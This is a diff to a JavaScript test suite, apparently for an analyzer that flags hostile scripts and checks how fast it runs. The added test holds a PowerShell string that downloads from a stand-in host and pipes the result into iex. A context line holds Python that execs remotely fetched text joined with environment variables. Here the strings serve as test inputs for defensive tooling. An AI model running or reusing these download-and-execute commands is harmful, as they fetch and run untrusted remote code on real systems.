@@ -71,6 +71,13 @@ describe('hostile code ends in time', () => {
     expect(plain.gaps).toEqual([]);
     expect(plain.flows().map((f) => f.host)).toEqual(expect.arrayContaining(['x1.test', 'y2.test']));
   });
+  it('a pipeline of thousands of commands costs no square of them', () => {
+    const code = `curl https://evil.test${' | sort'.repeat(12_000)} | iex`;
+    const result = run({ 'a.ps1': code });
+    expect(result.ms).toBeLessThan(4_000);
+    expect(result.gaps).toContain('code-pipeline');
+    expect(result.commands().every((one) => one.after.length + one.before.length <= 128)).toBe(true);
+  });
   it('what was received stays known among dozens of variables', () => {
     const keys = Array.from({ length: 60 }, (_, i) => `os.environ["A${i}"]`).join(' + ');
     const result = py(`import os, requests\nexec(${keys} + requests.get("https://evil.test").text)`);
